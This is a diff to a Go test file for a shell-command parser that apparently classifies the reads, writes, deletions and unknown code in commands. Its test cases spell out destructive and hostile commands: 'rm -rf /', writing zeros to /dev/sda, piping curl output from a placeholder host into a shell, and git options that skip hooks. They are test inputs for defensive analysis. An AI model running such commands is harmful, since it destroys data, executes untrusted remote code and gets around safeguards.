@@ -234,7 +234,10 @@ func TestParseCommands(t *testing.T) {
 		{"source process substitution", `source <(curl -s https://x.example)`, want{cmds: []string{"^1 curl -s https://x.example", "<curl| source ?"}, urls: []string{"https://x.example"}, incomplete: true}},
 		{"bash heredoc", "bash <<EOF\nrm -rf /\nEOF", want{cmds: []string{"bash", "^1 rm -rf /"}, deletes: []string{"/"}}},
 		{"bash herestring", "bash <<< 'rm -rf /'", want{cmds: []string{"bash", "^1 rm -rf /"}, deletes: []string{"/"}}},
-		{"find -exec", `find / -name x -exec rm -rf {} \;`, want{cmds: []string{"find / -name x -exec rm -rf {} ;", "find> rm -rf ?"}, reads: []string{"/"}, incomplete: true}},
+		{"find -exec", `find / -name x -exec rm -rf {} \;`, want{cmds: []string{"find / -name x -exec rm -rf {} ;", "find> rm -rf ?"}, reads: []string{"/"}, deletes: []string{"/"}, incomplete: true}},
+		{"find -execdir", `find /var -execdir rm {} +`, want{cmds: []string{"find /var -execdir rm {} +", "find> rm ?"}, reads: []string{"/var"}, deletes: []string{"/var"}, incomplete: true}},
+		{"find -exec sh -c", `find /srv -exec sh -c 'rm -rf {}' \;`, want{cmds: []string{"find /srv -exec sh -c rm -rf {} ;", "find> sh -c rm -rf \"$__vouch_find_match\"", "^1 rm -rf ?"}, reads: []string{"/srv"}, deletes: []string{"/srv"}, incomplete: true}},
+		{"find -exec reader", `find / -name x -exec cat {} \;`, want{cmds: []string{"find / -name x -exec cat {} ;", "find> cat ?"}, reads: []string{"/"}, incomplete: true}},
 		{"find -delete", "find /tmp -name '*.log' -delete", want{cmds: []string{"find /tmp -name *.log -delete"}, reads: []string{"/tmp"}, deletes: []string{"/tmp"}, incomplete: true}},
 		{"trap", "trap 'rm -rf /' EXIT", want{cmds: []string{"trap rm -rf / EXIT", "^1 rm -rf /"}, deletes: []string{"/"}}},
 		{"alias", "alias ll='rm -rf /'", want{cmds: []string{"alias ll=rm -rf /", "^1 rm -rf /"}, deletes: []string{"/"}}},
@@ -361,7 +364,15 @@ func TestParseFiles(t *testing.T) {
 		{"mv", "mv .env .env.bak", want{reads: []string{"ROOT/repo/.env"}, writes: []string{"ROOT/repo/.env.bak"}, deletes: []string{"ROOT/repo/.env"}}},
 		{"rm options after", "rm src/a.go -f", want{deletes: []string{"ROOT/repo/src/a.go"}}},
 		{"rm after --", "rm -- -f", want{deletes: []string{"ROOT/repo/-f"}}},
-		{"rmdir unlink", "rmdir dist; unlink link", want{deletes: []string{"ROOT/repo/dist", "ROOT/secret"}}},
+		{"rmdir unlink", "rmdir dist; unlink link", want{deletes: []string{"ROOT/repo/dist", "ROOT/repo/link"}}},
+		// rm removes a symbolic link, not its target; a trailing slash or
+		// a path below the link reaches the target.
+		{"rm link", "rm -rf link", want{deletes: []string{"ROOT/repo/link"}}},
+		{"rm link slash", "rm -rf link/", want{deletes: []string{"ROOT/secret"}}},
+		{"rm below link", "rm -rf link/key", want{deletes: []string{"ROOT/secret/key"}}},
+		{"rm glob keeps links", "rm -rf l*", want{deletes: []string{"ROOT/repo/link"}, incomplete: true}},
+		{"mv link", "mv link dist/", want{reads: []string{"ROOT/secret"}, deletes: []string{"ROOT/repo/link"}, writes: []string{"ROOT/repo/dist/link"}}},
+		{"find -delete link", "find link -delete", want{reads: []string{"ROOT/secret"}, deletes: []string{"ROOT/repo/link"}, incomplete: true}},
 		{"tee", "echo x | tee -a a.txt b.txt", want{writes: []string{"ROOT/repo/a.txt", "ROOT/repo/b.txt"}}},
 		{"touch", "touch -d yesterday new.txt", want{writes: []string{"ROOT/repo/new.txt"}}},
 		{"dd", "dd if=/dev/zero of=/dev/sda bs=1M", want{reads: []string{"/dev/zero"}, writes: []string{"/dev/sda"}}},
@@ -539,4 +550,92 @@ func TestParseSymlinkedCwd(t *testing.T) {
 	})
 	check(t, root, "echo $PWD", opts, want{cmds: []string{"echo ROOT/secret"}})
 	check(t, root, "ls", Options{Cwd: root + "/repo/link"}, want{cmds: []string{"ls"}})
+}
+
+// TestParseProgramOptions pins Command.Sub and Command.Options: options as
+// the program reads them, so a rule matches the option and not text that
+// merely looks like one.
+func TestParseProgramOptions(t *testing.T) {
+	opts := Options{Cwd: "/nonexistent-vouch"}
+	tests := []struct {
+		command string
+		want    []string // "name sub: option option" per command with options or a subcommand
+	}{
+		{"git commit -nm msg", []string{"git commit: --no-verify --message"}},
+		{"git commit -m 'run --no-verify'", []string{"git commit: --message"}},
+		{"git commit -m --no-verify", []string{"git commit: --message"}},
+		{"git commit --no-verify -m x", []string{"git commit: --no-verify --message"}},
+		{"git -C sub commit -an", []string{"git commit: --all --no-verify"}},
+		{"git commit -u -n", []string{"git commit: --untracked-files --no-verify"}},
+		{"git -c core.hooksPath=/dev/null commit -m x", []string{"git commit: -c core.hookspath --message"}},
+		{"git push -n origin main", []string{"git push: --dry-run"}},
+		{"git push --no-verify", []string{"git push: --no-verify"}},
+		{"git push -f", []string{"git push: --force"}},
+		{"git push --force-with-lease origin main", []string{"git push: --force-with-lease"}},
+		{"git push origin +main", []string{"git push: --force"}},
+		{"git merge -n topic", []string{"git merge: --no-stat"}},
+		{"git branch -D main", []string{"git branch: --delete --force"}},
+		{"git status", []string{"git status:"}},
+		{"rm -rf x", []string{"rm: --recursive --force"}},
+		{"rm x -R", []string{"rm: --recursive"}},
+		{"rm -- -rf", []string{"rm:"}},
+		{"rm --recursive --no-preserve-root /", []string{"rm: --recursive --no-preserve-root"}},
+		{`find . -name '*.o' -delete`, []string{"find: -delete"}},
+		{`find / -exec rm -rf {} \;`, []string{"find: -exec", "rm: --recursive --force"}},
+		{`echo "git commit --no-verify"`, nil},
+	}
+	for _, tt := range tests {
+		f, err := Parse(tt.command, opts)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var got []string
+		for _, c := range f.Commands {
+			if c.Sub == "" && len(c.Options) == 0 && c.Name != "rm" {
+				continue
+			}
+			s := c.Name
+			if c.Sub != "" {
+				s += " " + c.Sub
+			}
+			got = append(got, strings.TrimSpace(s+": "+strings.Join(c.Options, " ")))
+		}
+		if diff := cmp.Diff(tt.want, got); diff != "" {
+			t.Errorf("Parse(%q) options (-want +got):\n%s", tt.command, diff)
+		}
+	}
+}
+
+// TestParseUnknown pins Facts.Unknown: the places where a command line
+// runs code that cannot be known statically.
+func TestParseUnknown(t *testing.T) {
+	opts := Options{Cwd: "/nonexistent-vouch"}
+	tests := []struct {
+		command string
+		want    []string
+	}{
+		{"$(echo rm) -rf /", []string{"$(echo rm)"}},
+		{`"$CMD" -rf /`, []string{`"$CMD"`}},
+		{"${x}rm -rf /", []string{"${x}rm"}},
+		{`eval "$X"`, []string{`eval "$X"`}},
+		{`bash -c "$SCRIPT"`, []string{`bash -c "$SCRIPT"`}},
+		{`sudo sh -c "$(curl -s x.example)"`, []string{`sh -c "$(curl -s x.example)"`}},
+		{`eval "rm -rf /"`, nil},
+		{`bash -c 'rm -rf /'`, nil},
+		{"rm -rf $DIR", nil},
+		{`echo "$CMD"`, nil},
+		{"ls $(pwd)", nil},
+	}
+	for _, tt := range tests {
+		f, err := Parse(tt.command, opts)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if diff := cmp.Diff(tt.want, f.Unknown); diff != "" {
+			t.Errorf("Parse(%q).Unknown (-want +got):\n%s", tt.command, diff)
+		}
+		if len(tt.want) > 0 && !f.Incomplete {
+			t.Errorf("Parse(%q): Unknown without Incomplete", tt.command)
+		}
+	}
 }
